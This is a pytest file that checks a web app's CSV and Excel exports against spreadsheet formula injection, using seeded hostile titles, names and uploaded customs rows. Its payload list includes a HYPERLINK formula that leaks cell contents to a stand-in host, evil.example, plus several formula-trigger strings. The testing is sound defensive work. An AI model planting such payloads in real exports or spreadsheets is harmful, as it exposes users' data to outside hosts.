"""Downloads cannot run code (OWASP CSV injection): every route that answers CSV or Excel,
enumerated from the app, is fetched over a workspace whose action titles, agency names,
priority and KPI names and rejected customs cells are formulas; no CSV cell begins with a
formula character unless it is a number, no Excel cell is a formula, the hostile texts come
out neutralised (``'`` in CSV, a quote-prefixed text cell in Excel), and the program workbook
still gives back the original text when imported again."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from exportplan.auth import local_actor
from exportplan.reference.cells import TRIGGERS, csv_frame, csv_value, dangerous, xlsx_append
from exportplan.services import demo_program
from exportplan.services import program as program_svc
from exportplan.services.plan_of_record import choose_program
from exportplan.views.tables import csv_bytes, table, xlsx_bytes
from exportplan.web.app import create_app
from exportplan.workspace import Workspace, open_workspace
from helpers import wait_for_imports, walk

#: The Origin a browser sends with a form of this site: a write carrying the site's cookies
#: that names no origin is refused (web/app.py)
BROWSER = {"Origin": "http://testserver"}

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\uff1dSUM(1)",  # full-width equals sign
]
STORED = [p.strip() for p in PAYLOADS]  # the program store strips titles and names
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$")
#: Every route that answers CSV or Excel (a new one must be added here, and so be tested)
DOWNLOAD_ROUTES = {
    "/download/{name}/{table}.{ext}",
    "/reports/workbook.xlsx",
    "/program/export.xlsx",
    "/data/rejects/{dataset_id}.csv",
    "/zones/{code}/download/{view:path}/{table}.{ext}",  # issue 18: the zones' tables
}


@pytest.fixture(scope="module")
def hostile(small_demo: Workspace, tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """A copy of the small demo whose user-written texts are formulas."""
    path = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(small_demo.path, path, ignore=shutil.ignore_patterns("*.wal", "cache"))
    ws = open_workspace(path)
    db = ws.program()
    admin = local_actor()
    pid = choose_program(db, region=ws.home_region, year=None).program
    assert pid is not None
    program_svc.add_agency(db, admin, code="ZED", name_en=PAYLOADS[0], name_fa=PAYLOADS[1])
    for i, text in enumerate(PAYLOADS):
        program_svc.add_action(
            db,
            admin,
            pid.id,
            agency="ZED",
            title=text,
            start=dt.date(2026, 1, 1),
            deadline=dt.date(2026, 2, 1),  # overdue: on the dashboard too
            code=f"Z{i}",
        )
    program_svc.add_kpi(
        db, admin, pid.id, code="ZK", agency="ZED", name=PAYLOADS[3], source="manual"
    )
    return ws


def sign_in(c: TestClient, user: str) -> None:
    c.get("/login")
    r = c.post(
        "/login",
        data={
            "username": user,
            "password": demo_program.DEMO_PASSWORD,
            "csrf": c.cookies["ep_csrf"],
        },
    )
    assert r.status_code == 303


@pytest.fixture(scope="module")
def client(hostile: Workspace) -> Iterator[TestClient]:
    with TestClient(create_app(hostile), follow_redirects=False, headers=BROWSER) as c:
        sign_in(c, "admin")
        yield c


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [c for sh in wb.worksheets for row in sh.iter_rows() for c in row]


def check_csv(where: str, data: bytes) -> list[str]:
    cells = csv_cells(data)
    for cell in cells:  # a CSV cell may begin with a formula character only as a number
        assert not dangerous(cell) or NUMBER.match(cell), (where, cell)
    return cells


def check_xlsx(where: str, data: bytes) -> list[Any]:
    cells = xlsx_cells(data)
    for c in cells:
        assert c.data_type != "f", (where, c.coordinate, c.value)
        if dangerous(c.value):
            assert c.data_type == "s" and c.quotePrefix, (where, c.coordinate, c.value)
    return cells


def upload_rejected_formulas(c: TestClient) -> int:
    """A customs file whose bad cells are formulas: the import keeps them as rejects."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(
        ["تاریخ", "گمرک اجرایی", "کد تعرفه", "کشور مقصد", "وزن خالص (کیلوگرم)", "ارزش دلاری"]
    )
    for i, p in enumerate(PAYLOADS[:4]):
        # an office the demo has not loaded (the overlap rule refuses loaded cells)
        w.writerow([f"1405/08/0{i + 1}", "گمرک بازرگان", "08081000", p, "100", "200"])
    text = buf.getvalue().encode()
    r = c.post(
        "/data/upload?lang=en",
        files={"file": ("hostile.csv", text, "text/csv")},
        data={"csrf": c.cookies["ep_csrf"]},
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text[:500]  # queued for the server's writer
    jobs = wait_for_imports(c)
    m = re.search(r"/data/rejects/(\d+)\.csv", jobs[0]["rejects_url"])
    assert m is not None, ("the hostile rows were not rejected", jobs[0])
    return int(m.group(1))


def test_every_download_is_neutralised(client: TestClient, hostile: Workspace) -> None:
    app = client.app
    routes = {
        r.path
        for r in walk(app.routes)  # type: ignore[attr-defined]
        if re.search(r"\.(csv|xlsx|\{ext\})$", getattr(r, "path", ""))
    }
    assert routes == DOWNLOAD_ROUTES  # a new download route is tested below, or this fails
    seen_csv: list[str] = []
    seen_xlsx: list[Any] = []
    fetched = 0
    for page in ("dashboard", "monitor", "opportunities", "program", "data", "users"):
        names = ["users"] if page == "users" else client.get(f"/{page}.json").json()["tables"]
        for name in names:
            for lang in ("fa", "en"):
                r = client.get(f"/download/{page}/{name}.csv?lang={lang}")
                assert r.status_code == 200, (page, name)
                seen_csv += check_csv(f"{page}/{name}.csv", r.content)
                r = client.get(f"/download/{page}/{name}.xlsx?lang={lang}")
                assert r.status_code == 200, (page, name)
                seen_xlsx += check_xlsx(f"{page}/{name}.xlsx", r.content)
                fetched += 2
    for view, name in (("zone", "plots"), ("worklist", "worklist")):  # the demo's leather zone
        for lang in ("fa", "en"):
            r = client.get(f"/zones/TLS/download/{view}/{name}.csv?lang={lang}")
            assert r.status_code == 200, (view, name)
            seen_csv += check_csv(f"zones/{view}/{name}.csv", r.content)
            r = client.get(f"/zones/TLS/download/{view}/{name}.xlsx?lang={lang}")
            assert r.status_code == 200, (view, name)
            seen_xlsx += check_xlsx(f"zones/{view}/{name}.xlsx", r.content)
            fetched += 2
    for url in ("/reports/workbook.xlsx?lang=fa", "/program/export.xlsx?lang=en"):
        r = client.get(url)
        assert r.status_code == 200, url
        seen_xlsx += check_xlsx(url, r.content)
        fetched += 1
    rejects = client.get(f"/data/rejects/{upload_rejected_formulas(client)}.csv")
    assert rejects.status_code == 200
    rejected = check_csv("rejects", rejects.content)
    assert fetched > 20
    # the hostile texts are there, neutralised, not dropped
    for p in STORED:
        assert "'" + p in seen_csv, p
        assert any(c.value == p and c.data_type == "s" for c in seen_xlsx), p
    for p in PAYLOADS[:4]:
        assert any(cell.endswith(p) and cell.startswith("'") for cell in rejected), p
    # numbers stay numbers: the downloads hold numeric cells, some of them negative
    numbers = [c.value for c in seen_xlsx if c.data_type == "n" and c.value is not None]
    assert numbers and any(isinstance(v, float | int) and v < 0 for v in numbers)


def test_the_program_workbook_gives_back_the_original_text(
    client: TestClient, hostile: Workspace, tmp_path: Path
) -> None:
    """Export, then import into an empty store: every title is what was written (the export
    stores text as text, with Excel's quote prefix, and adds nothing to the value)."""
    r = client.get("/program/export.xlsx")
    path = tmp_path / "program.xlsx"
    path.write_bytes(r.content)
    read = program_svc.read(path)
    titles = {a["code"]: a["title"] for a in read["actions"]}
    assert [titles[f"Z{i}"] for i in range(len(PAYLOADS))] == STORED
    from exportplan.store import program as program_db

    other = program_db.connect(f"sqlite:///{tmp_path / 'other.sqlite'}")
    res = program_svc.import_file(other, local_actor(), path)
    again = program_svc.program_data(other, res["program_id"])
    assert [a["title"] for a in again["actions"] if a["code"].startswith("Z")] == STORED
    assert {a["code"]: a["name_en"] for a in again["agencies"]}["ZED"] == PAYLOADS[0]
    ref = choose_program(hostile.program(), region=hostile.home_region, year=None).program
    assert ref is not None
    original = program_svc.program_data(hostile.program(), ref.id)
    assert again["actions"] == original["actions"]


def test_only_text_is_neutralised() -> None:
    assert [csv_value(v) for v in (-1.5, -3, 0, "-", "ok", "a=b", None)] == [
        -1.5,
        -3,
        0,
        "'-",
        "ok",
        "a=b",
        None,
    ]
    assert all(dangerous(ch + "x") for ch in TRIGGERS)
    assert dangerous("  =1") and not dangerous("") and not dangerous(5)
    tab = table(
        "=title",
        [{"a": -2.5, "b": "=1+1", "c": "text"}],
        [("a", "a", "number"), ("b", "b", "text"), ("c", "c", "text")],
        "en",
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(tab).decode("utf-8-sig"))))
    assert rows == [["a", "b", "c"], ["-2.5", "'=1+1", "text"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(tab, "en"))).active
    assert sheet is not None
    title, _labels, row = list(sheet.iter_rows())
    assert (title[0].value, title[0].data_type, title[0].quotePrefix) == ("=title", "s", True)
    assert (row[0].value, row[0].data_type) == (-2.5, "n")
    assert (row[1].value, row[1].data_type) == ("=1+1", "s")
    df = csv_frame(pl.DataFrame({"t": ["=1", " @x", "fine"], "n": [-1.0, 2.0, 3.0]}))
    assert df["t"].to_list() == ["'=1", "' @x", "fine"] and df["n"].to_list() == [-1.0, 2.0, 3.0]
    # a control character a workbook cannot hold is replaced, not a crash
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    xlsx_append(ws, ["a\x01b", "=x"])
    assert [c.value for c in ws[1]] == ["a\ufffdb", "=x"]
